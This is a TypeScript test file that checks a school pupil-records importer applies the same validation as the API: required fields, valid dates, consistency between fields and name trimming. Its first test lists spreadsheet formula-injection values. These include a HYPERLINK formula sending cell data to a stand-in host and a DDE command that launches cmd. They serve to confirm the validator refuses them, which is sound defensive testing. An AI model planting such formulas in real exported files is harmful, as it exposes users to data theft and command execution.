import { checkPupilFields } from '../pupils/pupil-fields';
import { checkImportedFields, checkImportedPupil, StoredFacts } from './imported-pupil-rules';

const TODAY = '2026-11-30';
const NEW_PUPIL = {
  legalForename: 'Amy',
  legalSurname: "O'Brien",
  dateOfBirth: '2016-03-04',
  yearGroup: '5' as const,
};
const STORED: StoredFacts = { dateOfBirth: '2016-03-04', yearGroup: '5', entryDate: '2020-09-01', leavingDate: null };

describe('an imported row passes the same rules as POST /pupils', () => {
  it.each([
    ['legalSurname', '=HYPERLINK("http://evil.test?d="&A1,"x")'],
    ['legalForename', '@SUM(1+1)'],
    ['middleNames', "=cmd|' /C calc'!A0"],
    ['preferredForename', '+1+1'],
    ['preferredSurname', '-2+3'],
    ['legalSurname', '\t=1+1'],
  ])('refuses a formula in %s, naming the field and the rule and not the value, as the API does', (field, value) => {
    const fields = { ...NEW_PUPIL, [field]: value };
    const api = checkPupilFields(fields, false).errors;
    expect(api).toEqual([expect.objectContaining({ field })]);
    const checked = checkImportedPupil(fields, null, TODAY);
    expect(checked).toEqual({ ok: false, field, reason: api[0].message });
    expect(JSON.stringify(checked)).not.toContain(value.slice(1, 6));
  });

  it('refuses what the API refuses in other fields: a date that does not exist, attendance beyond its bounds', () => {
    expect(checkImportedPupil({ ...NEW_PUPIL, entryDate: '2021-02-30' }, null, TODAY)).toMatchObject({
      ok: false,
      field: 'entryDate',
    });
    expect(
      checkImportedPupil({ ...NEW_PUPIL, attendance: { possibleSessions: 5000, attendedSessions: 10 } }, null, TODAY),
    ).toMatchObject({ ok: false, field: 'attendance.possibleSessions' });
  });

  it('stores names as the API stores them: trimmed, inner spaces collapsed, an empty optional name as null', () => {
    const checked = checkImportedPupil({ ...NEW_PUPIL, legalForename: '  Amy   Rose ', middleNames: '' }, null, TODAY);
    expect(checked).toEqual({
      ok: true,
      fields: { ...NEW_PUPIL, legalForename: 'Amy Rose', middleNames: null },
    });
  });

  it('needs the required fields to create a pupil, naming the first missing one', () => {
    expect(checkImportedPupil({ legalSurname: 'Khan' }, null, TODAY)).toEqual({
      ok: false,
      field: 'legalForename',
      reason: 'not on the register and the file lacks legalForename, dateOfBirth, yearGroup to create it',
    });
    expect(checkImportedPupil({ fsm: true }, STORED, TODAY)).toEqual({ ok: true, fields: { fsm: true } });
  });

  it('checks the rules between fields against the record as it will be, as an API update does', () => {
    // The file moves the pupil to year 10 but the stored date of birth is of a year-5 pupil.
    expect(checkImportedPupil({ yearGroup: '10' }, STORED, TODAY)).toMatchObject({ ok: false, field: 'dateOfBirth' });
    // The leaving date is before the stored entry date.
    expect(checkImportedPupil({ leavingDate: '2019-07-20' }, STORED, TODAY)).toEqual({
      ok: false,
      field: 'leavingDate',
      reason: 'must not be before the entry date',
    });
    expect(checkImportedPupil({ ...NEW_PUPIL, dateOfBirth: '2027-01-01' }, null, TODAY)).toMatchObject({
      ok: false,
      field: 'dateOfBirth',
      reason: 'must not be in the future',
    });
  });

  it('does not refuse an unchanged field for an old inconsistency, as an API update does not', () => {
    const odd: StoredFacts = { ...STORED, yearGroup: '10' };
    expect(checkImportedPupil({ yearGroup: '10', fsm: false }, odd, TODAY)).toEqual({
      ok: true,
      fields: { yearGroup: '10', fsm: false },
    });
  });

  it('gives the same answer when the field rules ran ahead (the importer runs them while the batch before is written)', () => {
    const rows: [Record<string, unknown>, StoredFacts | null][] = [
      [{ ...NEW_PUPIL, legalSurname: '@SUM(1+1)' }, null],
      [{ legalSurname: '=1+1' }, null], // a missing field for a new pupil is still reported first
      [{ legalSurname: '=1+1' }, STORED],
      [{ yearGroup: '10' }, STORED],
      [{ ...NEW_PUPIL, legalForename: '  Amy   Rose ' }, null],
    ];
    for (const [fields, stored] of rows) {
      expect(checkImportedPupil(fields, stored, TODAY, checkImportedFields(fields))).toEqual(
        checkImportedPupil(fields, stored, TODAY),
      );
    }
  });
});
